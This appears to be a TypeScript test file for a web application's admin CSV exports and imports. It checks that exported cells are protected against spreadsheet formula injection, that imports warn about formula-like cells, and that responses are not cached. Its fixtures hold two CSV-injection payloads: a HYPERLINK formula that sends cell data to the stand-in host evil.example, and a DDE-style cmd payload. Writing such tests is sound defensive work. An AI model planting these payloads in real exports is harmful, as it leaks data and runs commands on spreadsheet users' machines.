// Downloads of personal data (issue 9 items 4 and 5): every CSV export goes through one writer that
// neutralises spreadsheet formulas, imports warn about such cells, and no dynamic response may be
// cached (GOV-1, ADM-4, OPS-4).
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { startTestApp, type TestApp } from '../helpers/app.ts';
import { Client } from '../helpers/client.ts';
import { createAccount } from '../helpers/accounts.ts';
import { newNationalId } from '../helpers/apply.ts';
import { centralAuthority, type Api } from '../helpers/api.ts';
import { audit } from '../../src/platform/audit.ts';
import { SESSION_COOKIE } from '../../src/auth/sessions.ts';

const UNIT = '2.16.886.101.90027.20002.20011';
const HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A1,"點我")';
const SUM = '@SUM(1+1)*cmd|\' /C calc\'!A0';

let t: TestApp;
let api: Api;
let admin: Client;
before(async () => {
  t = await startTestApp();
  await createAccount(t.deps, { username: 'formula01', password: 'Correct-Horse-9', unitOid: UNIT, name: '公式測試', profile: { title: HYPERLINK, department: SUM, officeExt: '+886' } });
  await t.deps.db.transaction().execute((trx) => audit(trx, t.clock.now(), { actor: null, action: 'account.update', targetType: 'account', targetId: '-2+3', details: { note: 'formula-audit' } }));
  ({ client: admin, api } = await centralAuthority(t));
});
after(async () => { await t?.close(); });

const page = (path: string) => fetch(t.url + path, { headers: { cookie: `${SESSION_COOKIE}=${admin.cookie(SESSION_COOKIE)}` } });
/** The cells of a CSV line as a spreadsheet would see them (quotes removed). */
const cellsOf = (csv: string, marker: string) => csv.split('\n').find((l) => l.includes(marker)) ?? '';

test('GOV-1, ADM-4 (issue 9 item 4): account exports (page and API) neutralise =HYPERLINK, @SUM and + with a leading quote', async () => {
  for (const res of [await page('/admin/accounts/export.csv'), await api('GET', '/accounts/export.csv')]) {
    assert.equal(res.status, 200);
    const line = cellsOf(await res.text(), 'formula01');
    assert.ok(line.includes(`"'=HYPERLINK(""https://evil.example/?x=""&A1,""點我"")"`), line);
    assert.ok(line.includes(`'@SUM(1+1)`), line);
    assert.ok(line.includes(`,'+886,`), line);
    assert.ok(!/,[=@+]/.test(line) && !/,"[=@+]/.test(line), `no cell starts like a formula: ${line}`);
  }
});

test('GOV-1 (issue 9 item 4): the audit export goes through the same writer', async () => {
  const res = await page('/admin/audit/export.csv');
  assert.equal(res.status, 200);
  assert.match(cellsOf(await res.text(), 'formula-audit'), /,'-2\+3,/);
});

test('ADM-4 (issue 9 item 4): an import warns, by line and column, about a cell starting like a formula, and still checks the rest', async () => {
  const csv = `username,name,unit_oid,national_id,birth_month,birth_day,title\n`
    + `formula02,公式二,${UNIT},${newNationalId()},4,9,@SUM(A1)\nformula03,公式三,${UNIT},${newNationalId()},5,1,科員\n`;
  const r = await api('POST', '/accounts/import', { csv, dryRun: true });
  const body = await r.json() as { created: unknown[]; warnings: { line: number; column: string; message: string }[] };
  assert.equal(r.status, 200, JSON.stringify(body));
  assert.equal(body.created.length, 2, 'a warning is not a refusal');
  assert.deepEqual(body.warnings.map((w) => [w.line, w.column]), [[2, 'title']]);
  const shown = await admin.submit('/admin/accounts/import', '/admin/accounts/import', { csv, dryRun: '1' });
  assert.match(shown.body, /class="notice warning"[^>]*>[\s\S]*第 2 行 title：以 = \+ - @ 開頭/);
});

test('OPS-4 (issue 9 item 5): CSV exports and the JSON API are never cached; static files may be', async () => {
  for (const res of [await page('/admin/accounts/export.csv'), await page('/admin/audit/export.csv'), await api('GET', '/accounts/export.csv'),
    await api('GET', '/accounts?q=formula01'), await api('GET', '/orgs')]) {
    assert.equal(res.status, 200, res.url);
    assert.equal(res.headers.get('cache-control'), 'no-store', res.url);
  }
  assert.equal((await fetch(t.url + '/static/app.css')).headers.get('cache-control'), 'public, max-age=3600');
});
